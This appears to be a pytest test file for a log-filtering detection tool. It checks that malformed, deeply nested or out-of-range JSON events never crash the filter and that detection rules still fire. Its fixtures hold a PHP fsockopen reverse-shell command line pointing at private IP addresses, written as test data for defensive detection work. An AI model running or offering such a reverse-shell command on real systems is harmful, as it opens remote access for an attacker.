"""Hostile JSON on the hot path: never a crash, never blind, every output line strict JSON (issue 19)."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import PHP_FSOCKOPEN, WEBSHELL_RECON, rule_ids
from shellsieve.compile.ruleset import Ruleset
from shellsieve.events.tolerant import MAX_DEPTH, may_hide_duplicates, read
from shellsieve.run.enrich import message_line
from shellsieve.run.loop import run_filter
from shellsieve.run.stats import Stats
from shellsieve.settings import Settings

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
# a php fsockopen reverse shell (rule 100103), one ECS line
PHP = (EXAMPLES / "events.ndjson").read_bytes().splitlines()[1]
# a Winlogbeat Sysmon event of the Sigma web-shell recon rule
SYSMON = (EXAMPLES / "sysmon.ndjson").read_bytes().splitlines()[1]
BENIGN = b'{"process":{"name":"ls","command_line":"ls -la"},"host":{"os":{"type":"linux"}}}'


class _Log:
    def info(self, *args: Any, **kw: Any) -> None:
        pass

    warning = info


def _no_constant(name: str) -> Any:
    raise ValueError(f"{name} is not JSON")


def _strict(line: bytes) -> Any:
    """A line as strict JSON: UTF-8, no NaN or Infinity; numbers of any size kept (as text when huge,
    which msgspec refuses to decode though JSON allows them)."""
    return json.loads(line.decode("utf-8"), parse_constant=_no_constant,
                      parse_int=lambda s: int(s) if len(s) < 100 else s)


def _with(line: bytes, extra: bytes) -> bytes:
    """`line` with `extra` (a `"key":value` pair) added before its closing brace."""
    assert line.endswith(b"}")
    return line[:-1] + b"," + extra + b"}"


def _run(lines: list[bytes]) -> tuple[list[bytes], Stats]:
    """Lines through the whole filter in process (router, fast path, line path), with shipped rules."""
    from conftest import PATTERNS
    from shellsieve.cli import build

    global _RULESET
    if _RULESET is None:
        _, _RULESET, _ = build([PATTERNS])
    out = io.BytesIO()
    stats = run_filter(_RULESET, Settings(stats_interval_s=0), io.BytesIO(b"".join(x + b"\n" for x in lines)),
                       out, _Log())
    got = out.getvalue().splitlines()
    assert len(got) == len(lines) == stats.lines_out, "a line was lost or added"
    for x in got:
        assert isinstance(_strict(x), dict)  # strict JSON, valid UTF-8, one object
        assert not any(b < 0x20 or b == 0x7F for b in x), "a raw control byte in an output line"
    return got, stats


_RULESET: Ruleset | None = None


def _docs(lines: list[bytes]) -> tuple[list[dict[str, Any]], Stats]:
    got, stats = _run(lines)
    return [_strict(x) for x in got], stats


class TestOutOfRange:
    """A number out of float range raised ValidationError out of the confirm stage and killed the filter."""

    @pytest.mark.parametrize("number", [b"1e400", b"-1e400", b"1" * 5000, b"-" + b"9" * 30])
    def test_matching_event_with_a_huge_number_is_alerted(self, number: bytes) -> None:
        """The event is alerted, every line before and after it comes out, the number is kept verbatim."""
        line = _with(PHP, b'"x":' + number)
        got, stats = _run([BENIGN, line, BENIGN])
        assert got[0] == BENIGN and got[2] == BENIGN
        doc = _strict(got[1])
        assert rule_ids(doc) == [PHP_FSOCKOPEN]
        assert b'"x":' + number in got[1]
        if number != b"-" + b"9" * 30:  # fits a float: not out of range
            assert stats.malformed["out_of_range"] == 1 and doc["shellsieve"]["malformed"] == "out_of_range"

    def test_huge_number_in_a_field_a_rule_reads(self) -> None:
        """Out of range where the typed view reads (the user, the process) fails that decode too."""
        line = PHP.replace(b'"pid":18391', b'"pid":1e400').replace(b'"id":"0"', b'"id":1e999')
        assert line != PHP
        docs, _ = _docs([line])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]

    def test_line_by_line_path(self) -> None:
        """A text line in the block sends it line by line: the same event is alerted there too."""
        docs, _ = _docs([b"plain text", _with(PHP, b'"x":1e400')])
        assert docs[0] == {"message": "plain text"} and rule_ids(docs[1]) == [PHP_FSOCKOPEN]

    def test_sysmon_event_with_a_huge_number(self) -> None:
        """A Sysmon line is decoded by the router, which caught no ValidationError either."""
        docs, stats = _docs([_with(SYSMON, b'"x":1e400'), BENIGN])
        assert rule_ids(docs[0]) == [WEBSHELL_RECON]
        assert stats.formats["sysmon"] == 1

    def test_non_matching_line_passes_byte_exact(self) -> None:
        line = _with(BENIGN, b'"x":1e400')
        got, _ = _run([line])
        assert got == [line]


class TestUnreadableEventsAreScanned:
    """An event the strict decoder refuses is read by the tolerant reader, confirmed and alerted."""

    @pytest.mark.parametrize("extra,reason", [
        (b'"note":"\xff"', "invalid_utf8"),
        (b'"note":"\\ud800"', "invalid_utf8"),
        (b'"note":"\\udc00x\\ud800"', "invalid_utf8"),
        (b'"x":' + b"[" * 1000 + b"]" * 1000, "too_deep"),
        (b'"x":' + b"{\"a\":" * 1000 + b"1" + b"}" * 1000, "too_deep"),
    ])
    def test_matching_event_is_alerted(self, extra: bytes, reason: str) -> None:
        docs, stats = _docs([BENIGN, _with(PHP, extra), BENIGN])
        doc = docs[1]
        assert rule_ids(doc) == [PHP_FSOCKOPEN]
        assert doc["shellsieve"]["malformed"] == reason and stats.malformed[reason] == 1
        # what a SIEM gets: the line as text, the fields the rules read, the alert
        assert doc["message"].startswith('{"@timestamp":"2026-11-22T10:00:00.100Z"')
        assert doc["process"]["command_line"] == "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
        if reason == "invalid_utf8" and b"\xff" in extra:
            assert doc["message"].endswith('"note":"\ufffd"}')

    def test_invalid_byte_in_the_command_line_itself(self) -> None:
        line = PHP.replace(b"9001);'\"", b"9001);' #\xfe\"")
        assert line != PHP
        docs, stats = _docs([line])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN] and stats.malformed["invalid_utf8"] == 1
        assert docs[0]["process"]["command_line"].endswith("#\ufffd")

    def test_truncated_event_is_alerted(self) -> None:
        """A line cut short (the shipper's buffer) still holds the command line."""
        docs, stats = _docs([PHP[: PHP.index(b',"working_directory"')]])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN] and stats.malformed["invalid_json"] == 1

    def test_sysmon_event_with_an_invalid_byte(self) -> None:
        docs, stats = _docs([_with(SYSMON, b'"note":"\xff"')])
        assert rule_ids(docs[0]) == [WEBSHELL_RECON] and docs[0]["shellsieve"]["malformed"] == "invalid_utf8"
        assert stats.malformed["invalid_utf8"] == 1

    def test_non_matching_unreadable_lines_are_wrapped(self) -> None:
        """Without a hit the wrap is as before; only replaced bytes add the marker."""
        deep = _with(BENIGN, b'"x":' + b"[" * 1000 + b"]" * 1000)
        docs, stats = _docs([_with(BENIGN, b'"a":"\xff"'), deep, b'{"a":'])
        assert docs[0]["shellsieve"] == {"malformed": "invalid_utf8"} and "\ufffd" in docs[0]["message"]
        assert docs[1] == {"message": deep.decode()} and docs[2] == {"message": '{"a":'}
        assert stats.malformed["invalid_utf8"] == 1 and stats.malformed["too_deep"] == 1


def _object_text(pairs: list[Any], sep: bytes) -> str:
    """`pairs` (key, value) as a JSON object in their order, a repeated key written again; a value
    that is a list of pairs is an object."""
    def value(v: Any) -> str:
        return _object_text(v, sep) if isinstance(v, list) else json.dumps(v)
    return "{" + sep.decode().join(f"{json.dumps(k)}:{value(v)}" for k, v in pairs) + "}"


def _repeats(pairs: list[Any]) -> bool:
    keys = [k for k, _ in pairs]
    return len(set(keys)) < len(keys) or any(_repeats(v) for _, v in pairs if isinstance(v, list))


class TestDuplicateKeys:
    """msgspec keeps the last of duplicate keys: an earlier occurrence of a field a rule reads was hidden."""

    BASE = (b'{"@timestamp":"2026-11-22T10:00:00.100Z","event":{"category":["process"],"type":["start"]},'
            b'"host":{"os":{"type":"linux"}},"process":{"name":"php","args":["php"],%s},"user":{"name":"root"}}')
    SHELL = b'"command_line":"php -r \'$s=fsockopen(\\"10.10.10.10\\",9001);\'"'

    def test_baseline(self) -> None:
        """The reverse shell alone alerts; `ls` alone does not."""
        docs, _ = _docs([self.BASE % self.SHELL, self.BASE % b'"command_line":"ls"'])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN] and rule_ids(docs[1]) == []

    def test_first_occurrence_is_scanned(self) -> None:
        line = self.BASE % (self.SHELL + b',"command_line":"ls"')
        docs, stats = _docs([BENIGN, line])
        assert rule_ids(docs[1]) == [PHP_FSOCKOPEN]
        assert docs[1]["shellsieve"]["malformed"] == "duplicate_key" and stats.malformed["duplicate_key"] == 1
        assert docs[1]["process"]["command_line"][1] == "ls"  # every occurrence kept, as an array

    def test_duplicate_object(self) -> None:
        shell = b'"process":{"name":"php",' + self.SHELL + b"}"
        line = self.BASE.replace(b'"process":{', shell + b',"process":{') % b'"command_line":"ls"'
        docs, _ = _docs([line])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]

    def test_no_duplicate_no_change(self) -> None:
        """A candidate without hits and without duplicates is forwarded as it came, uncounted."""
        line = self.BASE % b'"command_line":"php -v"'
        got, stats = _run([line])
        assert got == [line] and not stats.malformed

    def test_cheap_test_has_no_false_negative_for_spelt_colons(self) -> None:
        """`\\u003a` in a value could make up for a lost key in the colon count: it says maybe."""
        assert may_hide_duplicates(b'{"c":"x","c":"y","v":"\\u003a"}')
        assert may_hide_duplicates(b'{"c":"x","c":"y","v":"\\u003A"}')
        assert may_hide_duplicates(b'{"c":"x","c\\u0022":"y","c":"z"}')
        assert may_hide_duplicates(b'{"c" :"x","c":"y"}')
        assert may_hide_duplicates(b'{"a":{"c":1,"c":2}}')
        assert not may_hide_duplicates(b'{"a":{"c":1,"d":"\\":"}}')

    @settings(max_examples=400, deadline=None)
    @given(st.recursive(st.none() | st.booleans() | st.integers(-5, 5) | st.sampled_from(["", ":", "a:b", "x"]),
                        lambda inner: st.lists(st.tuples(st.sampled_from(["a", "b", ":", "a:"]), inner), max_size=4),
                        max_leaves=12).filter(lambda v: isinstance(v, list)),
           st.booleans())
    def test_no_false_negative_on_any_object(self, pairs: list[Any], spaced: bool) -> None:
        """Objects written as their members come, duplicates kept, compact (the encoding itself where
        no key repeats) or spaced: a repeated key anywhere always says maybe; the encoding of an object
        without one never does."""
        line = _object_text(pairs, b", " if spaced else b",").encode()
        if _repeats(pairs):
            assert may_hide_duplicates(line)
        else:
            assert not may_hide_duplicates(msgspec.json.encode(msgspec.json.decode(line)))


class TestValuesOfAnyType:
    """Valid JSON with a value of an unexpected type, where a decoder or a join reads it."""

    def test_object_as_a_sequence_join_value(self) -> None:
        """A `by` value that is an object (or a number out of range) cannot key the sequence state."""
        events = (EXAMPLES / "events.ndjson").read_bytes().splitlines()
        for value in (rb'{"a":1}', rb"1e400"):
            lines = [re.sub(rb'"entity_id":"[^"]*"', b'"entity_id":' + value, x) for x in events]
            got, stats = _run(lines)
            assert stats.alerts >= 1

    def test_timestamp_of_hundreds_of_digits(self) -> None:
        """A sequence step reads @timestamp as epoch seconds: a 400-digit int overflowed the float."""
        events = (EXAMPLES / "events.ndjson").read_bytes().splitlines()
        lines = [re.sub(rb'"@timestamp":"[^"]*"', b'"@timestamp":' + b"9" * 400, x) for x in events]
        got, stats = _run(lines)
        assert stats.alerts >= 1

    def test_sysmon_image_not_a_string(self) -> None:
        line = re.sub(rb'"Image":"[^"]*"', b'"Image":true', SYSMON)
        assert line != SYSMON
        got, _ = _run([line])
        assert len(got) == 1


class TestHostileBytes:
    def test_invalid_bytes_are_not_spelt_as_backslash_text(self) -> None:
        """`\\xff` is a text the input could hold; U+FFFD and the marker tell an invalid byte."""
        real = msgspec.json.decode(message_line(b"a\xffb"))
        spelt = msgspec.json.decode(message_line(b"a\\xffb"))
        assert real == {"message": "a\ufffdb", "shellsieve": {"malformed": "invalid_utf8"}}
        assert spelt == {"message": "a\\xffb"}

    def test_del_byte_in_an_alert_is_escaped(self) -> None:
        """JSON allows a raw DEL in a string; a line we rewrite holds no raw control byte."""
        line = _with(PHP, b'"note":"a\x7fb"')
        got, _ = _run([line])
        assert rule_ids(_strict(got[0])) == [PHP_FSOCKOPEN]
        assert b"\x7f" not in got[0] and b"a\\u007fb" in got[0]

    def test_text_line_with_control_bytes(self) -> None:
        docs, _ = _docs([b"php -r '$s=fsockopen(\"1.2.3.4\",9001);' \x1b[2J\x7f\x00"])
        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]

    @settings(max_examples=150, deadline=None)
    @given(st.lists(st.sampled_from([PHP, BENIGN, SYSMON, b"\xff", b'"\\ud800"', b"[" * 1100, b"]" * 10,
                                     b"1e400", b'"command_line":', b",", b"}", b"{", b"\x7f", b"\\"]),
                    min_size=1, max_size=6))
    def test_any_splice_every_line_out_as_json(self, parts: list[bytes]) -> None:
        """Pieces of events, hostile bytes and brackets spliced together: never a raise, each line out once."""
        _run([b"".join(parts), PHP])


class TestTolerantReader:
    def test_lone_surrogates_and_pairs(self) -> None:
        doc, found = read(b'{"a":"\\ud800","b":"\\ud83d\\ude00","c":"\\\\ud800","d":"\\udc00"}')
        assert doc == {"a": "\ufffd", "b": "\U0001f600", "c": "\\ud800", "d": "\ufffd"}
        assert found == ["invalid_utf8"]

    def test_too_deep_is_skipped_without_recursion(self) -> None:
        """A million levels: skipped in bulk (no recursion, no quadratic walk), the rest still read."""
        line = b'{"a":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b',"b":"x"}'
        doc, found = read(line)
        assert doc is not None and doc["b"] == "x" and found == ["too_deep"]
        depth, cur = 1, doc["a"]
        while cur:
            depth, cur = depth + 1, cur[0]
        assert depth == MAX_DEPTH - 1  # and the root object

    def test_numbers_out_of_range_stay_verbatim(self) -> None:
        line = b'{"a":1e400,"b":' + b"7" * 5000 + b',"c":' + b"9" * 400 + b',"d":2.5,"e":-1e-400}'
        doc, found = read(line)
        assert doc is not None and found == ["out_of_range"]
        assert doc["c"] == int("9" * 400) and doc["e"] == 0.0  # as msgspec reads them
        assert msgspec.json.encode(doc) == line.replace(b"-1e-400", b"-0.0")

    def test_duplicates_merge_like_arrays(self) -> None:
        doc, found = read(b'{"c":"a","c":"b","c":["d"],"p":{"x":1},"p":{"y":2},"l":[1],"l":[2]}', True)
        assert doc == {"c": ["a", "b", "d"], "p": {"x": 1, "y": 2}, "l": [1, 2]}
        assert found == ["duplicate_key"]
        assert read(b'{"c":"a","c":"b"}')[0] == {"c": "b"}  # without merging: the last, as msgspec

    def test_broken_syntax_is_stepped_over(self) -> None:
        doc, found = read(b'{"a" "b", junk, "c":tru, "d":[1 2], "e":"open')
        assert doc == {"a": "b", "d": [1, 2], "e": "open"} and "invalid_json" in found

    @settings(max_examples=300, deadline=None)
    @given(st.binary(max_size=300))
    def test_never_raises(self, data: bytes) -> None:
        doc, _ = read(data, merge_duplicates=True)
        if doc is not None:
            msgspec.json.encode(doc)  # what it read encodes back: no surrogate, no unencodable value

    @settings(max_examples=300, deadline=None)
    @given(st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
                        | st.text(), lambda c: st.lists(c) | st.dictionaries(st.text(), c), max_leaves=20))
    def test_agrees_with_msgspec_on_strict_json(self, value: Any) -> None:
        line = msgspec.json.encode({"v": value})
        assert read(line, merge_duplicates=True) == (msgspec.json.decode(line), [])
        # the token reader (what a line with a syntax error gets) reads the same
        assert read(line + b" x", merge_duplicates=True) == (msgspec.json.decode(line), ["invalid_json"])

    def test_bulk_runs_read_as_tokens_would(self) -> None:
        """Long runs of scalars in an array and of scalar pairs in an object are read in bulk."""
        value = {"a": [1, -2.5, "x\"y", True, None, "é", 1e300] * 40,
                 "o": {f"k{i}": [i, "v", False][i % 3] for i in range(200)}, "z": [[1, 2] * 40, {"q": 1}]}
        line = msgspec.json.encode(value)
        assert read(line + b"}", merge_duplicates=True) == (value, ["invalid_json"])
        spaced = line.replace(b",", b" , ").replace(b":", b" : ")
        assert read(spaced + b"]", merge_duplicates=True) == (value, ["invalid_json"])
        doc, found = read(b'{"a":[' + b'"\\ud800",' * 50 + b'1e400,"\xff",1] x')
        assert doc == {"a": ["\ufffd"] * 50 + [doc["a"][50], "\ufffd", 1]} and isinstance(doc["a"][50], msgspec.Raw)
        assert sorted(found) == ["invalid_json", "invalid_utf8", "out_of_range"]
